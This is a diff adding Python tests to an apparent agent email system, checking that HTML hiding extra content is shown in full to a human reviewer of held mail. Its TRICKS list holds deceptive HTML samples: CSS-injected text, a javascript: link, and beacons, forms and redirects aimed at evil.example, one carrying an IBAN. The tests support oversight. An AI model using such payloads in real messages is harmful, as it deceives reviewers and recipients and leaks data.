@@ -102,6 +102,58 @@ async def test_markdown_makes_no_difference_between_text_and_html(
     assert shown.text == text.rstrip("\n")
 
 
+TRICKS = (
+    "<style>p::after{content:' plus 90 euros an hour'}</style><p>Ten euros.</p>",
+    "<p>Ten euros.</p><img src='https://evil.example/terms.png?iban=DE12' alt=''>",
+    "<p>Ten euros.</p><!--[if mso]><p>Twenty euros.</p><![endif]-->",
+    '<p>Ten euros.</p><img src="data:image/svg+xml,<svg><text>Twenty</text></svg>">',
+    "<p style='background:url(https://evil.example/x)'>Ten euros.</p>",
+    "<p>Ten euros.</p><form action='https://evil.example'><input placeholder='Twenty'></form>",
+    "<p>Ten euros.</p><iframe srcdoc='<p>Twenty</p>'></iframe>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'><p>Ten euros.</p>",
+    "<title>Twenty</title><p>Ten euros.</p>",
+    "<p title='Twenty'>Ten euros.</p>",
+    "<p>Ten euros.</p><blink>",
+    "<p><a href='javascript:alert(1)'>Ten euros.</a></p>",
+)
+
+
+@pytest.mark.parametrize("html", TRICKS)
+async def test_html_that_may_show_more_than_words_is_shown_whole(
+    quiet_room: PostRoom, ada: Agent, html: str
+) -> None:
+    sent = await ada.send("Ten euros.", BEN, html=html, hold_for_review=WHY)
+    shown = await quiet_room.desk.held.show(operator(), str(sent.send_id))
+    assert shown.html is not None
+    assert shown.html.split() == html.split()
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<p>Ten euros.</p>",
+        "<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'></head><body>"
+        "<div><b>Ten</b> <em>euros</em>.</div><ul><li>a</li></ul></body></html>",
+        "<table><tr><td>Ten euros.</td></tr></table><a href='https://x.example/'>here</a>",
+    ],
+)
+async def test_html_of_words_and_links_is_told_by_its_words(
+    quiet_room: PostRoom, ada: Agent, html: str
+) -> None:
+    sent = await ada.send("Ten euros.", BEN, html=html, hold_for_review=WHY)
+    assert (await quiet_room.desk.held.show(operator(), str(sent.send_id))).html is None
+
+
+async def test_a_list_that_is_cut_says_how_many_more_wait(
+    quiet_room: PostRoom, ada: Agent, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("postroom.desk.approvals.held.MOST", 2)
+    for number in range(3):
+        await ada.send(f"Text {number}", BEN, hold_for_review=WHY)
+    found = await quiet_room.desk.held.list(operator())
+    assert (len(found.sends), found.more) == (2, 1)
+
+
 async def test_only_the_mail_that_was_shown_is_approved(quiet_room: PostRoom, ada: Agent) -> None:
     one = await ada.send("One.", BEN, hold_for_review=WHY)
     other = await ada.send("Two.", BEN, hold_for_review=WHY)
